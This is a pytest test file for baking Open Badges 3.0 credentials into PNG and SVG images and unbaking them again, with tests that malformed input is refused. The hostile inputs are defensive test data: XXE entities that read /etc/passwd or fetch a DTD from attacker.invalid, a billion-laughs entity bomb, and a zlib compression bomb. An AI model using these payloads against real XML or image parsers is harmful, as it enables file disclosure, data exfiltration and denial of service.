"""Baking and unbaking PNG and SVG badges: the official fixtures, exact chunk and element layout, re-baking,
and the damaged or hostile images (bad CRC, truncation, two credentials, compression and entity bombs) that
must be refused with a clear message."""

from __future__ import annotations

import io
import json
import struct
import time
import zlib

import pytest
from PIL import Image

from issuer.baking import (
    MAX_IMAGE_BYTES,
    MAX_TEXT_BYTES,
    PNG_SIGNATURE,
    Baked,
    BakingError,
    bake_png,
    bake_svg,
    unbake_png,
    unbake_svg,
)
from issuer.formats import FormatError, parse_submission

FIXTURES = "examples/ob_v3p0/1edtech-validator-fixtures"
CREDENTIAL = json.dumps({"@context": ["https://www.w3.org/ns/credentials/v2"], "name": "數據 ]]> badge",
                         "type": ["VerifiableCredential"]}, ensure_ascii=False)
JWS = "eyJhbGciOiJFUzI1NiJ9.eyJpc3MiOiJkaWQ6d2ViOmV4YW1wbGUuZWR1In0.c2lnbmF0dXJl"
SVG = ('<?xml version="1.0" encoding="UTF-8"?>\n<!-- a badge -->\n'
       '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle r="4"/></svg>\n')


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    found, offset = [], len(PNG_SIGNATURE)
    while offset < len(png):
        (length,) = struct.unpack(">I", png[offset : offset + 4])
        found.append((png[offset + 4 : offset + 8], png[offset + 8 : offset + 8 + length]))
        offset += 12 + length
    return found


def insert_after_ihdr(png: bytes, extra: bytes) -> bytes:
    ihdr_end = len(PNG_SIGNATURE) + 12 + 13
    return png[:ihdr_end] + extra + png[ihdr_end:]


@pytest.fixture(scope="module")
def plain_png() -> bytes:
    image = Image.new("RGB", (8, 8), (200, 30, 60))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.fixture
def fixture_bytes(standards):
    return lambda name: (standards / FIXTURES / name).read_bytes()


# --- the official 1EdTech fixtures ------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "expected_format"), [
    ("simple-json.png", "json-ld"), ("simple-jwt.png", "vc-jwt"),
    ("simple-json.svg", "json-ld"), ("simple-jwt.svg", "vc-jwt"),
])
def test_official_baked_fixtures_unbake_to_an_ob3_credential(fixture_bytes, load_standard, name, expected_format):
    data = fixture_bytes(name)
    found = (unbake_png if name.endswith(".png") else unbake_svg)(data)
    assert found.kind == "ob3"
    submission = parse_submission(data, None, name)
    assert submission.format == expected_format
    assert submission.baked == name[-3:]
    if expected_format == "json-ld":
        simple = load_standard(f"{FIXTURES}/simple.json")
        assert {k: v for k, v in submission.credential.items() if k != "proof"} == \
            {k: v for k, v in simple.items() if k != "proof"}
    else:
        assert submission.jwt == found.payload and submission.jwt.count(".") == 2


def test_svg_is_recognised_by_file_name_or_content_type_even_without_a_leading_svg_tag(fixture_bytes):
    data = fixture_bytes("simple-json.svg")
    assert parse_submission(data, "image/svg+xml", "badge").baked == "svg"
    assert parse_submission(data, None, "badge.svg").baked == "svg"


def test_rebaking_an_official_fixture_replaces_its_credential(fixture_bytes):
    png = bake_png(fixture_bytes("simple-json.png"), CREDENTIAL)
    assert [c for c in chunks(png) if c[0] == b"iTXt"] == \
        [(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + CREDENTIAL.encode("utf-8"))]
    svg = bake_svg(fixture_bytes("simple-jwt.svg").decode("utf-8"), CREDENTIAL, jwt=False)
    assert svg.count("openbadges:credential") == 2  # one start tag, one end tag
    assert unbake_svg(svg) == Baked("ob3", CREDENTIAL)


# --- PNG ------------------------------------------------------------------------------------------------

def test_png_gets_one_uncompressed_itxt_chunk_right_after_ihdr_and_nothing_else_changes(plain_png):
    baked = bake_png(plain_png, CREDENTIAL)
    layout = chunks(baked)
    assert layout[0][0] == b"IHDR"
    assert layout[1] == (b"iTXt", b"openbadgecredential\x00" + b"\x00\x00" + b"\x00" + b"\x00"
                         + CREDENTIAL.encode("utf-8"))
    assert [c[0] for c in layout].count(b"iTXt") == 1
    itxt = chunk(b"iTXt", layout[1][1])
    assert baked.replace(itxt, b"") == plain_png
    assert Image.open(io.BytesIO(baked)).tobytes() == Image.open(io.BytesIO(plain_png)).tobytes()
    assert unbake_png(baked) == Baked("ob3", CREDENTIAL)


def test_rebaking_a_png_replaces_the_credential_and_drops_an_ob2_assertion(plain_png):
    legacy = insert_after_ihdr(plain_png, chunk(b"tEXt", b"openbadges\x00https://example.org/assertion/1"))
    once = bake_png(legacy, CREDENTIAL)
    twice = bake_png(once, JWS)
    texts = [c for c in chunks(twice) if c[0] in (b"iTXt", b"tEXt", b"zTXt")]
    assert texts == [(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + JWS.encode("ascii"))]
    assert unbake_png(twice) == Baked("ob3", JWS)


def test_two_openbadgecredential_chunks_are_refused(plain_png):
    baked = bake_png(plain_png, CREDENTIAL)
    second = chunk(b"iTXt", b"openbadgecredential\x00\x00\x00\x00\x00" + JWS.encode("ascii"))
    with pytest.raises(BakingError, match="2 openbadgecredential chunks"):
        unbake_png(insert_after_ihdr(baked, second))


def test_a_bad_crc_is_refused(plain_png):
    baked = bytearray(bake_png(plain_png, CREDENTIAL))
    baked[len(PNG_SIGNATURE) + 25 + 30] ^= 0x01  # a byte of the credential text
    with pytest.raises(BakingError, match="iTXt at byte 33 has a bad CRC"):
        unbake_png(bytes(baked))
    with pytest.raises(BakingError, match="bad CRC"):
        bake_png(bytes(baked), CREDENTIAL)


@pytest.mark.parametrize("cut", [1, 12, 200])
def test_a_truncated_png_is_refused(plain_png, cut):
    baked = bake_png(plain_png, CREDENTIAL)
    with pytest.raises(BakingError, match="truncated"):
        unbake_png(baked[:-cut])


@pytest.mark.parametrize(("mangle", "message"), [
    (lambda png: b"GIF89a" + png[6:], "PNG signature"),
    (lambda png: png + b"junk", "after its IEND"),
    (lambda png: PNG_SIGNATURE + chunk(b"tEXt", b"a\x00b") + png[8:], "valid IHDR"),
    (lambda png: png[:-12], "no IEND"),
    (lambda png: png[:8] + png[8:12] + b"IH!R" + png[16:], "invalid type"),
])
def test_malformed_pngs_are_refused_with_the_problem_named(plain_png, mangle, message):
    with pytest.raises(BakingError, match=message):
        unbake_png(mangle(bake_png(plain_png, CREDENTIAL)))


def test_a_png_without_a_credential_says_so(plain_png):
    with pytest.raises(BakingError, match="carries no Open Badges credential"):
        unbake_png(plain_png)
    with pytest.raises(FormatError, match="cannot read the baked PNG badge: .*no Open Badges credential"):
        parse_submission(plain_png)


def test_a_compressed_itxt_chunk_is_read(plain_png):
    data = b"openbadgecredential\x00\x01\x00\x00\x00" + zlib.compress(CREDENTIAL.encode("utf-8"))
    assert unbake_png(insert_after_ihdr(plain_png, chunk(b"iTXt", data))) == Baked("ob3", CREDENTIAL)


def test_a_compression_bomb_is_refused_quickly(plain_png):
    bomb = zlib.compress(b"{" + b" " * (64 * 1024 * 1024), 9)  # 64 MB from about 64 KB
    png = insert_after_ihdr(plain_png, chunk(b"iTXt", b"openbadgecredential\x00\x01\x00\x00\x00" + bomb))
    started = time.perf_counter()
    with pytest.raises(BakingError, match=f"inflates to more than {MAX_TEXT_BYTES} bytes"):
        unbake_png(png)
    assert time.perf_counter() - started < 1.0


def test_an_oversized_png_is_refused(plain_png):
    with pytest.raises(BakingError, match="too large"):
        unbake_png(plain_png + b"\x00" * MAX_IMAGE_BYTES)


def test_an_ob2_baked_png_is_read_and_then_refused_for_verification(plain_png):
    for extra in (chunk(b"tEXt", b"openbadges\x00https://example.org/assertions/1"),
                  chunk(b"iTXt", b"openbadges\x00\x00\x00\x00\x00https://example.org/assertions/1")):
        png = insert_after_ihdr(plain_png, extra)
        assert unbake_png(png) == Baked("ob2", "https://example.org/assertions/1")
        with pytest.raises(FormatError, match="Open Badges 2.0 assertion; only OB 3.0"):
            parse_submission(png)


def test_a_nul_in_the_payload_cannot_be_baked_into_a_png(plain_png):
    with pytest.raises(BakingError, match="NUL"):
        bake_png(plain_png, '{"a": "\x00"}')


# --- SVG ------------------------------------------------------------------------------------------------

def test_svg_gets_the_namespace_and_a_cdata_credential_directly_after_the_root_start_tag():
    baked = bake_svg(SVG, CREDENTIAL, jwt=False)
    start = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" ' \
            'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
    element = ("<openbadges:credential><![CDATA[" + CREDENTIAL.replace("]]>", "]]]]><![CDATA[>")
               + "]]></openbadges:credential>")
    assert start + element + '<circle r="4"/>' in baked
    assert baked.replace(element, "").replace(' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"', "") == SVG
    assert unbake_svg(baked) == Baked("ob3", CREDENTIAL)
    assert unbake_svg(baked.encode("utf-8")) == Baked("ob3", CREDENTIAL)


def test_a_jwt_is_baked_as_the_verify_attribute_of_an_empty_element():
    baked = bake_svg(SVG, JWS, jwt=True)
    assert f'<openbadges:credential verify="{JWS}"/><circle' in baked
    assert unbake_svg(baked) == Baked("ob3", JWS)
    with pytest.raises(BakingError, match="compact JWS"):
        bake_svg(SVG, CREDENTIAL, jwt=True)


def test_rebaking_an_svg_replaces_the_credential_and_an_ob2_assertion():
    legacy = SVG.replace('height="10">', 'height="10" xmlns:openbadges="http://openbadges.org">'
                                         '<openbadges:assertion verify="https://example.org/a/1"/>')
    assert unbake_svg(legacy) == Baked("ob2", "https://example.org/a/1")
    once = bake_svg(legacy, JWS, jwt=True)
    twice = bake_svg(once, CREDENTIAL, jwt=False)
    assert "openbadges:assertion" not in twice and "http://openbadges.org" not in twice
    assert twice.count("<openbadges:credential>") == 1 and "verify=" not in twice
    assert unbake_svg(twice) == Baked("ob3", CREDENTIAL)


def test_a_self_closing_svg_root_is_opened_to_hold_the_credential():
    baked = bake_svg('<svg xmlns="http://www.w3.org/2000/svg"/>', JWS, jwt=True)
    assert baked == ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
                     f'<openbadges:credential verify="{JWS}"/></svg>')


def test_two_svg_credentials_are_refused():
    ns = 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" {ns}><openbadges:credential verify="{JWS}"/>'
           f'<openbadges:credential verify="{JWS}"/></svg>')
    with pytest.raises(BakingError, match="2 openbadges:credential elements"):
        unbake_svg(svg)


@pytest.mark.parametrize("svg", [
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg">&xxe;</svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd">%remote;]>'
    '<svg xmlns="http://www.w3.org/2000/svg"/>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&d;</text></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ELEMENT svg ANY>]><svg xmlns="http://www.w3.org/2000/svg"/>',
], ids=["external-entity", "external-parameter-entity", "billion-laughs", "internal-subset"])
def test_svgs_with_entities_or_a_dtd_subset_are_refused(svg):
    with pytest.raises(BakingError, match="SVG refused"):
        unbake_svg(svg)
    with pytest.raises(BakingError, match="SVG refused"):
        bake_svg(svg, JWS, jwt=True)
    with pytest.raises(FormatError, match="SVG refused"):
        parse_submission(svg)


@pytest.mark.parametrize(("svg", "message"), [
    ('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', "not well-formed"),
    ('<html xmlns="http://www.w3.org/1999/xhtml"/>', "root element is not <svg>"),
    (SVG, "carries no Open Badges credential"),
    ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="https://purl.imsglobal.org/ob/v3p0"><o:credential/></svg>',
     "empty"),
])
def test_unreadable_svgs_are_refused_with_the_problem_named(svg, message):
    with pytest.raises(BakingError, match=message):
        unbake_svg(svg)


def test_a_credential_under_any_prefix_of_the_ob3_namespace_is_found():
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg"><ob:credential xmlns:ob="https://purl.imsglobal.org/ob/v3p0">'
           f"\n  {CREDENTIAL.replace(']]>', ']]&gt;')}\n</ob:credential></svg>")
    assert unbake_svg(svg) == Baked("ob3", CREDENTIAL)
